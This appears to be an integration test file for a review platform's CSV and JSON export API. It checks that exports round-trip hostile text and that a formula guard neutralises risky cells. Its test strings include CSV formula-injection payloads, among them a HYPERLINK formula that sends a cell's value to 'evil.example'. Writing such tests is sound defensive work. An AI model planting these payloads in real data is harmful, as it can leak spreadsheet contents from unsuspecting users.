import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createTenant, db, type Tenant } from '../../helpers/db.ts';
import { api, errorBody } from '../../helpers/http.ts';
import { parseCsv } from '../../helpers/csv.ts';
import { eventually } from '../../helpers/receiver.ts';
import { startWorker, type TestWorker } from '../../helpers/worker.ts';
import { jpegWithGps, upload } from '../../helpers/media.ts';

// Text that breaks naive CSV writers and spreadsheets.
const HOSTILE = [
  'plain words',
  'comma, separated, values',
  'a "quoted" word and ""double"" quotes',
  'line one\nline two',
  'windows\r\nline break',
  'lonely\rcarriage return',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1 555 0100',
  '-2+3',
  '@SUM(1)',
  '\tleading tab',
  '\rleading carriage return',
  'emoji 👍🏽 and 🇫🇷, accents: déjà vu, 中文, עברית',
  '"',
  ',',
  '""',
  ' leading and trailing spaces ',
  '\\. backslash dot',
  'NULL',
  "'already quoted with an apostrophe",
  'semi;colon|pipe\u0000'.replace('\u0000', ''),
];

const N = 10_000;
let t: Tenant;
let w: TestWorker;
let formId: string;

const REVIEW_COLUMNS = [
  'id',
  'rating',
  'title',
  'content',
  'reviewer_name',
  'reviewer_email',
  'verification_status',
  'is_hidden',
  'created_at',
  'form_id',
  'product_external_id',
  'product_name',
  'source',
  'media_urls',
  'reply',
  'replied_at',
];

async function createForm(orgId: string) {
  const [form] =
    await db`insert into plaudit.review_forms (org_id, name) values (${orgId}, 'Export form') returning id`;
  return form.id as string;
}

async function exportJob(tenant: Tenant, body: Record<string, unknown>) {
  const res = await api('POST', `/api/v1/organizations/${tenant.org.id}/exports`, { key: tenant.keys.write, body });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body;
}

async function completed(tenant: Tenant, id: string, timeoutMs = 60_000) {
  return await eventually(
    async () => {
      const res = await api('GET', `/api/v1/organizations/${tenant.org.id}/exports/${id}`, { key: tenant.keys.read });
      return ['completed', 'failed'].includes(res.body.status) && res.body;
    },
    timeoutMs,
    'export to finish',
  );
}

async function download(tenant: Tenant, id: string) {
  const res = await fetch(
    `${(await import('vitest')).inject('apiUrl')}/api/v1/organizations/${tenant.org.id}/exports/${id}/download`,
    {
      headers: { authorization: `Bearer ${tenant.keys.read}` },
    },
  );
  return { status: res.status, headers: res.headers, text: await res.text() };
}

/** `COPY (query) TO STDOUT CSV HEADER`, through psql, as a person would compare. */
function copyCsv(query: string, params: unknown[]): string {
  const sql = `copy (${query.replace(/\$1/g, `'${params[0]}'`)}) to stdout with (format csv, header)`;
  return execFileSync('psql', [process.env.TEST_DATABASE_URL!, '-X', '-q', '-v', 'ON_ERROR_STOP=1', '-c', sql], {
    encoding: 'utf8',
    maxBuffer: 256 * 1024 * 1024,
  });
}

// The export's own select list, as COPY gets it: with and without the formula guard.
const selectList = (guard: boolean) => {
  const g = (col: string) => (guard ? `plaudit.csv_guard(${col})` : col);
  return `select ${g('id::text')} as id, rating::text as rating, ${g('title')} as title, ${g('content')} as content,
            ${g('reviewer_name')} as reviewer_name, ${g('reviewer_email')} as reviewer_email,
            ${g('verification_status')} as verification_status, is_hidden::text as is_hidden,
            plaudit.iso_utc(created_at) as created_at, ${g('form_id::text')} as form_id,
            ${g('(select p.external_id from plaudit.products p where p.id = product_id)')} as product_external_id,
            ${g('(select p.name from plaudit.products p where p.id = product_id)')} as product_name,
            source,
            ${
    g(`(select string_agg(m.url, ' ' order by m.position) from plaudit.review_media m
                 where m.review_id = reviews.id)`)
  } as media_urls,
            ${g('(select r.content from plaudit.review_replies r where r.review_id = reviews.id)')} as reply,
            (select plaudit.iso_utc(r.created_at) from plaudit.review_replies r where r.review_id = reviews.id)
              as replied_at
     from plaudit.reviews where org_id = $1 order by created_at, id`;
};

beforeAll(async () => {
  t = await createTenant();
  formId = await createForm(t.org.id);
  // A product per hostile text, its name and external id that text: every third review is of one.
  await db`
    insert into plaudit.products (org_id, external_id, name)
    select ${t.org.id}, h || ' #' || i, h from unnest(${HOSTILE}::text[]) with ordinality u(h, i)`;
  await db`
    insert into plaudit.reviews (org_id, form_id, rating, title, content, reviewer_name, reviewer_email,
                                 verification_status, is_hidden, created_at, product_id)
    select ${t.org.id}, ${formId}, 1 + g % 5,
           case when g % 4 = 0 then null else (${HOSTILE}::text[])[1 + (g * 7) % ${HOSTILE.length}] end,
           (${HOSTILE}::text[])[1 + g % ${HOSTILE.length}] || ' #' || g,
           (${HOSTILE}::text[])[1 + (g * 3) % ${HOSTILE.length}],
           'reviewer' || g || '@example.com',
           (array['unverified', 'pending', 'verified', 'rejected'])[1 + g % 4],
           g % 7 = 0,
           timestamptz '2026-01-01 00:00:00+00' + g * interval '37 minutes',
           case when g % 3 = 0 then (select p.id from plaudit.products p
                                      where p.org_id = ${t.org.id}
                                        and p.external_id like '% #' || (1 + (g * 5) % ${HOSTILE.length})) end
    from generate_series(1, ${N}) g`;
  // A reply on every fifth review, hostile text too: the reply columns carry it, guarded.
  await db`
    insert into plaudit.review_replies (review_id, org_id, content, created_at, updated_at)
    select v.id, v.org_id, (${HOSTILE}::text[])[1 + abs(hashtext(v.id::text)) % ${HOSTILE.length}] || ' reply',
           v.created_at + interval '1 day', v.created_at + interval '2 days'
      from plaudit.reviews v where v.org_id = ${t.org.id} and v.rating = 5`;
  // Two photos on the first review, one on the second: their URLs fill media_urls.
  const [first, second] =
    await db`select id from plaudit.reviews where org_id = ${t.org.id} order by created_at limit 2`;
  for (const [review, seed] of [[first.id, 1], [first.id, 2], [second.id, 3]]) {
    expect((await upload(review, await jpegWithGps(30, 20, seed), { key: t.keys.write })).status).toBe(201);
  }
}, 120_000);

afterAll(async () => {
  await w?.stop();
});

describe('exports', () => {
  it(
    'answers 409 until the job is completed, then a CSV that round-trips and matches COPY except for the formula guard',
    { timeout: 120_000 },
    async () => {
      const job = await exportJob(t, { format: 'csv', filters: { include_hidden: true } });
      expect(job).toMatchObject({
        id: expect.any(String),
        format: 'csv',
        filters: { include_hidden: true },
        status: 'pending',
        row_count: 0,
        created_at: expect.stringMatching(/Z$/),
        completed_at: null,
        download_url: null,
      });
      const early = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${job.id}/download`, {
        key: t.keys.read,
      });
      expect(early.status).toBe(409);
      expect(early.body).toEqual(errorBody(409, 'Conflict', /not ready/));

      w = await startWorker([t.org.id]);
      const done = await completed(t, job.id);
      expect(done).toMatchObject({
        status: 'completed',
        row_count: N,
        completed_at: expect.stringMatching(/Z$/),
        download_url: expect.stringContaining(`/exports/${job.id}/download`),
      });
      expect(Date.parse(done.expires_at) - Date.parse(done.completed_at)).toBe(7 * 24 * 3600_000);

      const file = await download(t, job.id);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(file.headers.get('content-disposition')).toMatch(
        /^attachment; filename="reviews-\d{4}-\d\d-\d\d-[0-9a-f]{8}\.csv"$/,
      );
      expect(Number(file.headers.get('content-length'))).toBe(Buffer.byteLength(file.text));
      expect(file.text.startsWith(`${REVIEW_COLUMNS.join(',')}\r\n`)).toBe(true);
      // The trail's head as of the export's creation travels with the file.
      expect(file.headers.get('plaudit-moderation-chain')).toBe(
        `entries=${job.moderation_chain.entries}; head=${job.moderation_chain.head ?? ''}`,
      );

      const exported = parseCsv(file.text);
      const guarded = parseCsv(copyCsv(selectList(true), [t.org.id]));
      const raw = parseCsv(copyCsv(selectList(false), [t.org.id]));
      expect(exported).toHaveLength(N + 1);
      expect(exported).toEqual(guarded);
      // Cell by cell against the unguarded values: equal, or the guarded form of a risky cell.
      let guardedCells = 0;
      for (let r = 1; r < raw.length; r++) {
        for (let c = 0; c < REVIEW_COLUMNS.length; c++) {
          const value = raw[r][c];
          if (/^[=+\-@\t\r]/.test(value)) {
            expect(exported[r][c]).toBe(`'${value}`);
            guardedCells += 1;
          } else {
            expect(exported[r][c]).toBe(value);
          }
        }
      }
      expect(guardedCells).toBeGreaterThan(1000);
      // The values are the reviews' own: emoji and line breaks survive.
      expect(exported.some((row) => row[3].includes('👍🏽'))).toBe(true);
      expect(exported.some((row) => row[3].includes('windows\r\nline break'))).toBe(true);
      // The product's columns, after the review's own: a name that looks like a formula is guarded.
      const nameColumn = REVIEW_COLUMNS.indexOf('product_name');
      expect(exported.filter((row) => row[nameColumn] === "'=SUM(A1:A9)")).not.toHaveLength(0);
      expect(exported.filter((row) => row[nameColumn] !== '')).toHaveLength(Math.floor(N / 3) + 1);
      // The photos' addresses, in upload order, separated by spaces.
      const mediaColumn = REVIEW_COLUMNS.indexOf('media_urls');
      const withMedia = exported.slice(1).map((row) => row[mediaColumn]).filter((cell) => cell !== '');
      expect(withMedia.map((cell) => cell.split(' ').length)).toEqual([2, 1]);
      for (const url of withMedia.flatMap((cell) => cell.split(' '))) {
        expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/api\/v1\/public\/media\/[0-9a-f/-]+\.jpg$/);
      }

      const events =
        await db`select data from plaudit.events where org_id = ${t.org.id} and type = 'export.completed' and data ->> 'id' = ${job.id}`;
      expect(events).toHaveLength(1);
      expect(events[0].data).toMatchObject({ id: job.id, format: 'csv', status: 'completed', row_count: N });
    },
  );

  it('streams a file of hundreds of chunks byte for byte', { timeout: 120_000 }, async () => {
    // Generated in this test's own transaction in chunks of 37 rows, so that no worker takes it
    // first: about 230 chunks, each a separate read of the download's stream.
    const id = await db.begin(async (tx) => {
      const [job] = await tx`insert into plaudit.exports (org_id, format) values (${t.org.id}, 'csv') returning id`;
      while (!(await tx`select plaudit.export_step(${job.id}, 37) as done`)[0].done);
      return job.id as string;
    });
    const [stored] = await db`
      select x.chunk_count, string_agg(c.body, '' order by c.seq) as body
      from plaudit.exports x join plaudit.export_chunks c on c.export_id = x.id
      where x.id = ${id} group by x.chunk_count`;
    expect(stored.chunk_count).toBeGreaterThan(200);
    const file = await download(t, id);
    expect(file.status).toBe(200);
    expect(file.text === stored.body).toBe(true);
    expect(parseCsv(file.text)).toEqual(
      parseCsv(
        copyCsv(selectList(true).replace('order by created_at', 'and not is_hidden order by created_at'), [t.org.id]),
      ),
    );
  });

  it('writes JSON as an array of the Review every route answers, reply included', { timeout: 120_000 }, async () => {
    w ??= await startWorker([t.org.id]);
    const [replied] = await db`select id from plaudit.reviews
       where org_id = ${t.org.id} and not is_hidden and verification_status in ('verified', 'unverified') limit 1`;
    const reply = await api('PUT', `/api/v1/organizations/${t.org.id}/reviews/${replied.id}/reply`, {
      key: t.keys.write,
      body: { content: 'Thank you — "noted".' },
    });
    expect(reply.status).toBe(200);
    const job = await exportJob(t, { format: 'json' });
    const done = await completed(t, job.id);
    const visible = N - Math.floor(N / 7);
    expect(done).toMatchObject({ status: 'completed', row_count: visible });
    const file = await download(t, job.id);
    expect(file.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(/\.json"$/);
    const rows = JSON.parse(file.text);
    expect(rows).toHaveLength(visible);
    // Key for key and in order, the contract's Review (the API's own answer for the replied review).
    const one = rows.find((r: { id: string }) => r.id === replied.id);
    expect(one).toEqual(reply.body);
    expect(Object.keys(one)).toEqual(Object.keys(reply.body));
    const expected = await db`
      select r.id, r.rating, r.title, r.content, r.reviewer_name, r.reviewer_email, r.verification_status,
             r.verification_method, plaudit.iso_utc(r.verification_at) as verification_at, r.source,
             r.source_platform, r.imported_as_verified, r.incentive, r.is_hidden,
             plaudit.iso_utc(r.created_at) as created_at, r.form_id,
             case when r.source = 'invitation' then plaudit.review_order_id(r.id) end as order_id,
             case when p.id is null then null else json_build_object('id', p.id, 'external_id', p.external_id,
               'name', p.name) end as product, r.language, r.custom_fields, plaudit.review_media_json(r.id, false)::json as media,
             case when rr.review_id is null then null else json_build_object('content', rr.content,
               'created_at', plaudit.iso_utc(rr.created_at), 'updated_at', plaudit.iso_utc(rr.updated_at)) end as reply
      from plaudit.reviews r left join plaudit.review_replies rr on rr.review_id = r.id
      left join plaudit.products p on p.id = r.product_id
      where r.org_id = ${t.org.id} and not r.is_hidden order by r.created_at, r.id`;
    expect(rows).toEqual(expected.map((r) => ({ ...r })));
  });

  it('gives each custom field a CSV column and JSON its object; export.completed links the same download URL', {
    timeout: 60_000,
  }, async () => {
    const cf = await createTenant();
    const cfWorker = await startWorker([cf.org.id]);
    try {
      const [older] = await db`
        insert into plaudit.review_forms (org_id, name, custom_fields, created_at)
        values (${cf.org.id}, 'Mugs', ${
        db.json([
          { key: 'size', label: 'Size', type: 'select', required: true, options: ['S', 'L'] },
          { key: 'gift', label: 'A gift?', type: 'boolean' },
        ] as never)
      }, now() - interval '1 day') returning id`;
      const [newer] = await db`
        insert into plaudit.review_forms (org_id, name, custom_fields)
        values (${cf.org.id}, 'Visits', ${
        db.json([
          { key: 'visits', label: 'Visits', type: 'number' },
          { key: 'size', label: 'Size', type: 'text' },
        ] as never)
      }) returning id`;
      await db`
        insert into plaudit.reviews (org_id, form_id, rating, content, reviewer_name, reviewer_email, custom_fields,
                                     created_at, verification_status)
        values (${cf.org.id}, ${older.id}, 5, 'Big mug', 'Ann', 'ann@example.com',
                ${db.json({ size: 'L', gift: true } as never)}, '2026-02-01T00:00:00Z', 'unverified'),
               (${cf.org.id}, ${newer.id}, 4, 'Came back', 'Bo', 'bo@example.com',
                ${db.json({ visits: 3, size: '=cmd, "quoted"' } as never)}, '2026-02-02T00:00:00Z', 'unverified'),
               (${cf.org.id}, ${newer.id}, 3, 'No answers', 'Cy', 'cy@example.com', '{}', '2026-02-03T00:00:00Z', 'unverified')`;

      const csvJob = await exportJob(cf, { format: 'csv' });
      const csv = parseCsv((await download(cf, (await completed(cf, csvJob.id)).id)).text);
      expect(csv[0]).toEqual([...REVIEW_COLUMNS, 'custom_fields.size', 'custom_fields.gift', 'custom_fields.visits']);
      expect(csv.slice(1).map((row) => row.slice(REVIEW_COLUMNS.length))).toEqual([
        ['L', 'true', ''],
        ['\'=cmd, "quoted"', '', '3'],
        ['', '', ''],
      ]);

      const oneForm = await exportJob(cf, { format: 'csv', filters: { form_id: newer.id } });
      const csvOfForm = parseCsv((await download(cf, (await completed(cf, oneForm.id)).id)).text);
      expect(csvOfForm[0].slice(REVIEW_COLUMNS.length)).toEqual(['custom_fields.visits', 'custom_fields.size']);
      expect(csvOfForm[1].slice(REVIEW_COLUMNS.length)).toEqual(['3', '\'=cmd, "quoted"']);

      const jsonJob = await exportJob(cf, { format: 'json' });
      const done = await completed(cf, jsonJob.id);
      const rows = JSON.parse((await download(cf, done.id)).text);
      expect(rows.map((r: any) => r.custom_fields)).toEqual([{ size: 'L', gift: true }, {
        visits: 3,
        size: '=cmd, "quoted"',
      }, {}]);

      expect(done.download_url).toBe(
        `${inject('apiUrl')}/api/v1/organizations/${cf.org.id}/exports/${done.id}/download`,
      );
      const [event] = await db`
        select data from plaudit.events where type = 'export.completed' and data ->> 'id' = ${done.id}`;
      expect(event.data.download_url).toBe(done.download_url);
    } finally {
      await cfWorker.stop();
    }
  });

  it('filters on created_at with both ends inclusive, in UTC', { timeout: 60_000 }, async () => {
    const edge = await createTenant();
    const form = await createForm(edge.org.id);
    const stamps = [
      '2026-02-28T23:59:59.999Z',
      '2026-03-01T00:00:00.000Z',
      '2026-03-01T12:00:00.000Z',
      '2026-03-01T23:59:59.999Z',
      '2026-03-02T00:00:00.000Z',
    ];
    for (const [i, at] of stamps.entries()) {
      await db`
        insert into plaudit.reviews (org_id, form_id, rating, content, reviewer_name, reviewer_email, verification_status, created_at)
        values (${edge.org.id}, ${form}, ${1 + i}, ${'review ' + i}, 'Edge', 'edge@example.com', 'unverified', ${at})`;
    }
    const edgeWorker = await startWorker([edge.org.id]);
    try {
      const cases: [Record<string, unknown>, string[]][] = [
        [{ startDate: '2026-03-01', endDate: '2026-03-01' }, stamps.slice(1, 4)],
        [{ startDate: '2026-03-01' }, stamps.slice(1)],
        [{ endDate: '2026-02-28' }, stamps.slice(0, 1)],
        [{ startDate: '2026-03-02', endDate: '2026-03-31' }, stamps.slice(4)],
        [{ startDate: '2025-01-01', endDate: '2025-12-31' }, []],
        [{ startDate: '2026-03-01', endDate: '2026-03-01', rating: 3 }, stamps.slice(2, 3)],
        [{ form_id: form }, stamps],
      ];
      for (const [filters, expected] of cases) {
        const job = await exportJob(edge, { format: 'json', filters });
        const done = await completed(edge, job.id);
        const rows = JSON.parse((await download(edge, job.id)).text);
        expect(rows.map((r: { created_at: string }) => r.created_at), JSON.stringify(filters)).toEqual(expected);
        expect(done.row_count).toBe(expected.length);
      }
      const empty = await exportJob(edge, { format: 'csv', filters: { startDate: '2030-01-01' } });
      await completed(edge, empty.id);
      expect((await download(edge, empty.id)).text).toBe(`${REVIEW_COLUMNS.join(',')}\r\n`);
    } finally {
      await edgeWorker.stop();
    }
  });

  it('validates formats and filters (422 naming the field)', async () => {
    for (
      const [body, field] of [
        [{ format: 'xlsx' }, /format/],
        [{ format: 'csv', filters: { startDate: '2026-02-30' } }, /startDate/],
        [{ format: 'csv', filters: { startDate: '01/02/2026' } }, /startDate/],
        [{ format: 'csv', filters: { startDate: '2026-03-02', endDate: '2026-03-01' } }, /endDate/],
        [{ format: 'csv', filters: { rating: 6 } }, /rating/],
      ] as const
    ) {
      const res = await api('POST', `/api/v1/organizations/${t.org.id}/exports`, { key: t.keys.write, body });
      expect(res.status, JSON.stringify(body)).toBe(422);
      expect(res.body).toEqual(errorBody(422, 'Unprocessable Entity', field));
    }
    expect(
      (await api('POST', `/api/v1/organizations/${t.org.id}/exports`, { key: t.keys.read, body: { format: 'csv' } }))
        .status,
    ).toBe(403);
  });

  it('records a failure with its reason, lists jobs, hides them from other tenants, and expires files', {
    timeout: 60_000,
  }, async () => {
    const other = await createTenant();
    const [bad] = await db`
      insert into plaudit.exports (org_id, format, filters) values (${t.org.id}, 'csv', '{"rating": "five"}') returning id`;
    w ??= await startWorker([t.org.id]);
    const failed = await completed(t, bad.id);
    expect(failed).toMatchObject({ status: 'failed', error: expect.stringMatching(/invalid input syntax/) });
    const res = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${bad.id}/download`, { key: t.keys.read });
    expect(res.status).toBe(409);
    expect(res.body.message).toMatch(/failed/);

    const list = await api('GET', `/api/v1/organizations/${t.org.id}/exports?limit=2`, { key: t.keys.read });
    expect(list.status).toBe(200);
    expect(list.body.data).toHaveLength(2);
    expect(list.body.meta.total).toBeGreaterThanOrEqual(3);
    expect(
      (await api('GET', `/api/v1/organizations/${other.org.id}/exports/${bad.id}`, { key: other.keys.read })).status,
    ).toBe(404);

    const job = await exportJob(t, { format: 'csv', filters: { startDate: '2026-01-01', endDate: '2026-01-01' } });
    await completed(t, job.id);
    await db`update plaudit.exports set expires_at = now() - interval '1 second' where id = ${job.id}`;
    const gone = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${job.id}/download`, { key: t.keys.read });
    expect(gone.status).toBe(410);
    expect(gone.body).toEqual(errorBody(410, 'Gone', /expired/));
    await db`select plaudit.run_delivery_maintenance()`;
    const [{ n }] = await db`select count(*)::integer as n from plaudit.export_chunks where export_id = ${job.id}`;
    expect(n).toBe(0);
  });
});
